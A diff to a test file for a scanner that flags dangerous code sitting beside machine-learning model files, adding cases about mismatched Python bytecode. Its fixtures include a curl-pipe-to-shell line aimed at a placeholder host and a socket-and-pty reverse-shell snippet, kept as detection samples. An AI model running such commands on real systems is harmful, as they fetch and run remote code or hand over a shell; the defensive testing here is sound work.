@@ -16,6 +16,7 @@ from vetline.host.files import PathPatterns
 
 FETCHED = "curl http://x.invalid/x | sh"
 INSTALLER = "curl -LsSf https://x.invalid/install.sh | sh"
+PYC = "\xa7\r\r\n" + "\0" * 12 + "\xe3" + "\0" * 20
 RUNS = "import os\nos.system('x')\n"
 SHELL = "import socket, os, pty\ns = socket.socket()\nos.dup2(s.fileno(), 0)\npty.spawn('sh')\n"
 HONEST = "import os, subprocess\n\ndef main():\n    os.makedirs('out')\n    subprocess.run(['git', 'add', 'out'])\n\nif __name__ == '__main__':\n    main()\n"
@@ -64,6 +65,10 @@ CASES: list[tuple[str, dict[str, str], Level, str]] = [
     ("a source that BentoML serves", {"bentofile.yaml": "service: \"net:svc\"\n", "net.py": RUNS}, DANGEROUS, "calls"),
     ("a module of sentence-transformers", {"modules.json": '[{"idx": 0, "name": "0", "path": "", "type": "net.Net"}]', "net.py": RUNS}, DANGEROUS, "calls"),
     ("a part of a pipeline", {"model_index.json": '{"unet": ["net", "Net"]}', "unet/net.py": RUNS}, DANGEROUS, "calls"),
+    ("bytecode that is not its source's", {"m.npz": "", "net.py": "x = 1\n", "__pycache__/net.cpython-311.pyc": PYC + "\xda\x06system"}, DANGEROUS, "names system, which the source does not"),
+    ("bytecode that nothing compares", {"m.npz": "", "net.py": "x = 1\n", "__pycache__/net.cpython-311.pyc": PYC.replace("\0\0\0\0", "\1\0\0\0", 1)}, DANGEROUS, "nothing compares them"),
+    ("bytecode of a source", {"m.npz": "", "net.py": "def f():\n    import os\n    os.system('x')\n", "__pycache__/net.cpython-311.pyc": PYC + "\xda\x06system"}, NOTHING, ""),
+    ("a processor's source", {"preprocessor_config.json": "{}", "p.py": RUNS}, DANGEROUS, "calls"),
     ("a source that builds", {"m.npz": "", "pyproject.toml": "[build-system]\nbuild-backend = 'own'\nbackend-path = ['.']\n", "own.py": RUNS}, DANGEROUS, "calls"),
     ("SageMaker's source", {"model.npz": "", "code/inference.py": RUNS}, DANGEROUS, "calls"),
     ("a source that settings do not name", {"config.yaml": "model:\n  class_path: torch.nn.Linear\n", "net.py": RUNS}, NOTHING, ""),
@@ -83,7 +88,7 @@ def test_what_lies_beside_a_model(tmp_path: Path, files: dict[str, str], verdict
         path.parent.mkdir(parents=True, exist_ok=True)
         path.write_bytes(content.encode("latin-1"))
     problems: list[Problem] = []
-    found = [artifact_files.inspect(file.path) for file in artifact_files.find([str(tmp_path)], PathPatterns([]), str(tmp_path), problems)]
+    found = [file.known or artifact_files.inspect(file.path) for file in artifact_files.find([str(tmp_path)], PathPatterns([]), str(tmp_path), problems)]
     remarks = [remark for one in found for remark in one.remarks]
     assert max((remark.level for remark in remarks), default=NOTHING) is verdict, remarks
     assert words in "\n".join(remark.message for remark in remarks)
